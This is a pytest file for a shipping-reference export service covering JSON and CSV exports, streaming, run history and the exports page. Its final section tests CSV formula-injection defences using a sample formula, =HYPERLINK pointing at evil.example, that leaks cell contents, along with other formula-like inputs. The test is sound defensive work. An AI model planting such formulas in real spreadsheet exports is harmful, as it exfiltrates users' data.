"""Exports: JSON contents, CSV streamed through COPY, versions and run history (both modes)."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from handled.db import data_db
from handled.errors import Unavailable
from handled.exports import builders, service
from handled.models import ExportRun
from handled.context import Actor, system_context
from handled.transformations.service import run_transformation
from tests.support.reference_data import build_reference_tables, write_reference


@pytest.fixture
def built(app, settings):
    build_reference_tables(settings)


def export_json(settings, export_id):
    return json.loads(b"".join(service.stream_export(system_context(settings), export_id)))


def test_zip3_reference_json_uses_population_centroid(built, settings):
    data = export_json(settings, "zip3-reference.json")
    assert sorted(data) == ["100", "200", "300"]          # 400 has no population centroid
    assert data["100"] == {"lat": pytest.approx(43.0), "lng": pytest.approx(-73.0), "city": "Beta",
                           "state": "NY", "population": 400}
    assert data["200"]["population"] == 0 and data["200"]["city"] == "Yew"


def test_zone_matrices_take_fewest_ground_days_and_99_where_no_service(built, settings):
    assert export_json(settings, "zone-matrix.json") == {
        "origins": ["100", "700"], "destinations": ["200", "300", "400", "500", "600"],
        "matrix": [[2, 1, 5, 3, 4], [3, 99, 99, 99, 99]]}
    assert export_json(settings, "zone-matrix-ups.json") == {
        "origins": ["100"], "destinations": ["200", "300", "400", "500", "600"], "matrix": [[2, 1, 5, 3, 4]]}
    assert export_json(settings, "zone-matrix-usps.json") == {
        "origins": ["100", "700"], "destinations": ["200", "300"], "matrix": [[2, 2], [3, 99]]}


def test_csv_export_matches_the_table_and_is_recorded(built, runner, tmp_path, settings):
    target = tmp_path / "matrix.csv"
    result = runner.invoke(args=["exports", "write", "delivery_matrix.csv", "-o", str(target)])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(target.read_text())))
    assert rows[0] == ["origin_zip3", "dest_zip3", "carrier", "service", "transit_days", "zone",
                       "delivery_score", "source"]
    expected = data_db.execute_sql("SELECT * FROM reference.delivery_matrix").fetchall()
    as_text = {tuple("" if v is None else str(v) for v in row) for row in expected}
    assert {tuple(r) for r in rows[1:]} == as_text and len(rows) - 1 == len(expected)
    run = ExportRun.select().order_by(ExportRun.id.desc()).first()
    assert (run.export, run.status, run.rows_written, run.bytes_written, run.created_by_email) == (
        "delivery_matrix.csv", "succeeded", len(expected), target.stat().st_size, Actor.cli_operator().label)
    streamed = b"".join(service.stream_export(system_context(settings), "delivery_matrix.csv"))
    assert streamed == target.read_bytes()               # same bytes every time for one build


def test_write_to_stdout_and_unknown_export(built, runner):
    result = runner.invoke(args=["exports", "write", "carriers.csv", "-o", "-"])
    assert result.exit_code == 0
    assert "code,name\nUPS,United Parcel Service\nUSPS,United States Postal Service\n" in result.output
    result = runner.invoke(args=["exports", "write", "nope.csv", "-o", "-"])
    assert result.exit_code == 1 and "There is no export 'nope.csv'" in result.output
    listed = runner.invoke(args=["exports", "list"])
    assert "zone-matrix-usps.json" in listed.output and "delivery_matrix.csv" in listed.output


def test_version_changes_only_with_a_new_transformation_run(built, settings):
    from handled.exports.registry import get_export
    export = get_export("zone-matrix.json")
    first = service.export_version(export)
    assert first.etag and first.last_modified
    assert service.export_version(export) == first
    run_transformation(system_context(settings), "zip3-reference")
    assert service.export_version(export) == first        # another transformation: same file
    run_transformation(system_context(settings), "delivery-matrix")
    assert service.export_version(export).etag != first.etag


def test_interrupted_stream_stops_the_copy_and_is_recorded(app, settings):
    data_db.execute_sql(
        "INSERT INTO workspace.usps_3d_base_service (origin_zip3, dest_zip3, pri_days, gal_days, pkg_days) "
        "SELECT lpad(o::text, 3, '0'), lpad(d::text, 3, '0'), 2, 3, 4 "
        "FROM generate_series(100, 399) o, generate_series(100, 299) d")
    rows = run_transformation(system_context(settings), "delivery-matrix").rows
    stream = service.stream_export(system_context(settings), "delivery_matrix.csv")
    first = next(stream)
    assert first.startswith(b"origin_zip3,") and len(first) >= 256 * 1024
    stream.close()
    run = ExportRun.select().order_by(ExportRun.id.desc()).first()
    assert run.status == "failed" and "interrupted" in run.message
    active = data_db.execute_sql(
        "SELECT count(*) FROM pg_stat_activity WHERE query LIKE 'COPY (SELECT * FROM reference.delivery%%' "
        "AND state = 'active' AND datname = current_database()").fetchone()[0]
    assert active == 0
    whole = b"".join(service.stream_export(system_context(settings), "delivery_matrix.csv"))   # the pool still serves
    assert whole.count(b"\n") == rows + 1


def last_export_run():
    return ExportRun.select().order_by(ExportRun.id.desc()).first()


@pytest.mark.parametrize("write", [
    lambda ctx: service.write_export(ctx, "delivery_matrix.csv", io.BytesIO()),
    lambda ctx: b"".join(service.stream_export(ctx, "delivery_matrix.csv")),
], ids=["file", "stream"])
def test_a_handled_error_keeps_its_sentence_and_status(app, settings, monkeypatch, write):
    def unavailable(export, fileobj):
        raise Unavailable("The DATA database is resting.")
    monkeypatch.setattr(builders, "copy_csv_to", unavailable)
    with pytest.raises(Unavailable) as caught:
        write(system_context(settings))
    assert caught.value.status == 503
    run = last_export_run()
    assert (run.status, run.message) == ("failed", "The DATA database is resting.")


@pytest.mark.parametrize("write", [
    lambda ctx: service.write_export(ctx, "delivery_matrix.csv", io.BytesIO()),
    lambda ctx: b"".join(service.stream_export(ctx, "delivery_matrix.csv")),
], ids=["file", "stream"])
def test_a_bug_is_logged_and_summarised_the_same_for_files_and_streams(app, settings, monkeypatch, caplog, write):
    def bug(export, fileobj):
        raise ValueError("secret internals\nmore")
    monkeypatch.setattr(builders, "copy_csv_to", bug)
    with pytest.raises(service.ExportFailed) as caught:
        write(system_context(settings))
    sentence = "Export delivery_matrix.csv failed unexpectedly; the error was logged."
    assert str(caught.value) == sentence
    assert (last_export_run().status, last_export_run().message) == ("failed", sentence)
    logged = [r for r in caplog.records if r.name == "handled.exports" and r.exc_info]
    assert logged and logged[-1].exc_info[0] is ValueError


def test_a_zip3_where_no_zip_has_a_population_exports_null_not_zero(app, settings):
    """DATASETS.md: a missing population counts as 0 in a sum, but a group in which no ZIP has
    a population is unknown: NULL in zip3_reference, null in zip3-reference.json."""
    from tests.support.reference_data import add_zip, load_zip_sources

    load_zip_sources()                                   # 200: one ZIP with 0, one missing -> 0
    add_zip("50001", 10.0, 20.0, "Nope", "KS", None)
    add_zip("50002", 12.0, 22.0, "Nada", "KS", None)     # 500: nobody's population is known
    run_transformation(system_context(settings), "zip3-reference")
    totals = dict(data_db.execute_sql("SELECT zip3, total_population FROM reference.zip3_reference").fetchall())
    assert totals["500"] is None and totals["200"] == 0 and totals["100"] == 400
    data = export_json(settings, "zip3-reference.json")
    assert data["500"] == {"lat": pytest.approx(11.0), "lng": pytest.approx(21.0), "city": "Nope",
                           "state": "KS", "population": None}
    assert data["200"]["population"] == 0


def exports_page_rows(client) -> dict[str, list[str]]:
    """File name -> the text of its row's cells on /exports/."""
    import re

    html = client.get("/exports/").get_data(as_text=True)
    rows = {}
    for row in html.split("<tbody>", 1)[1].split("</tbody>", 1)[0].split("<tr>")[1:]:
        cells = [cell.split(">", 1)[1] for cell in row.split("<td")[1:]]
        texts = [" ".join(re.sub(r"<[^>]+>", " ", cell).split()) for cell in cells]
        rows[texts[0]] = texts
    return rows


def test_the_exports_page_shows_real_counts_sizes_and_build_times(built, settings, app, login_client):
    client = login_client(permissions=["download_exports"])
    before = exports_page_rows(client)
    assert before["zone-matrix.json"][3] == "not written since the last build"
    assert before["carriers.csv"][3] == "2 rows" and before["services.csv"][3] == "14 rows"
    assert "about" not in client.get("/exports/").get_data(as_text=True)
    matrix_rows = data_db.execute_sql("SELECT count(*) FROM reference.delivery_matrix").fetchone()[0]
    assert before["delivery_matrix.csv"][3] == f"{matrix_rows:,} rows"
    assert re.search(r"\d\d:\d\d UTC ?, in ", before["delivery_matrix.csv"][2]) and f"({matrix_rows:,} rows)" in before["delivery_matrix.csv"][2]

    body = client.get("/exports/zone-matrix.json").get_data()
    matrix = json.loads(body)
    after = exports_page_rows(client)
    cells = len(matrix["origins"]) * len(matrix["destinations"])
    assert after["zone-matrix.json"][3] == f"{cells:,} cells"
    assert after["zone-matrix.json"][4] == f"{len(body)} bytes"
    zip3 = client.get("/exports/zip3-reference.json").get_data()
    assert exports_page_rows(client)["zip3-reference.json"][3] == f"{len(json.loads(zip3))} ZIP3s"


# ---- text from uploaded files cannot run as a spreadsheet formula

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_csv_cells_a_spreadsheet_would_run_are_neutralised_numbers_are_not(imp_app, imp_settings, files,
                                                                          login_client):
    from handled.integrations.service import import_file
    from tests.support.import_files import uszip_row, write_uszips

    cities = {"10001": FORMULA, "20001": "+1 cmd", "30001": "-2+3", "40001": "@SUM(1)", "50001": "Ordinary"}
    rows = [uszip_row(z, city=city, population="10", lat="40.5", lng="-73.25") for z, city in cities.items()]
    ctx = system_context(imp_settings)
    assert import_file(ctx, "us-zips", write_uszips(files / "uszips.csv", rows)).status == "succeeded"
    run_transformation(ctx, "zip3-reference")

    downloader = login_client(permissions=["download_exports"])
    response = downloader.get("/exports/zip3_reference.csv")
    assert response.status_code == 200
    table = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    by_zip3 = {row["zip3"]: row for row in table}
    assert {z: row["primary_city"] for z, row in by_zip3.items()} == {
        "100": "'" + FORMULA, "200": "'+1 cmd", "300": "'-2+3", "400": "'@SUM(1)", "500": "Ordinary"}
    assert {row["pop_lng"] for row in table} == {"-73.25"}        # a negative number stays a number
    assert {row["total_population"] for row in table} == {"10"}

    target = files / "zip3.csv"                                    # the CLI writes the same bytes
    with open(target, "wb") as out:
        service.write_export(ctx, "zip3_reference.csv", out)
    assert target.read_bytes() == response.get_data()


def test_formula_neutralising_covers_tab_and_carriage_return(app, settings):
    write_reference("INSERT INTO reference.zip3_reference (zip3, primary_city, pop_lng) VALUES "
                        "('001', %s, -1.5), ('002', %s, 2), ('003', %s, NULL)", ["\tTabbed", "\rReturned", "'=quoted"])
    out = io.BytesIO()
    service.write_export(system_context(settings), "zip3_reference.csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode(), newline="")))
    assert [(r["primary_city"], r["pop_lng"]) for r in rows] == [
        ("'\tTabbed", "-1.5"), ("'\rReturned", "2"), ("'=quoted", "")]


def test_every_text_column_of_a_csv_export_is_checked_unless_it_holds_codes(app):
    from handled.exports.registry import EXPORTS

    for export in (e for e in EXPORTS.values() if e.kind == "csv"):
        columns = builders.table_columns(export)
        assert set(export.code_columns) <= {name for name, is_text in columns if is_text}, export.id
        statement = builders.copy_sql(export, columns)
        for name, is_text in columns:
            checked = f'ascii("{name}")' in statement
            assert checked == (is_text and name not in export.code_columns), (export.id, name)
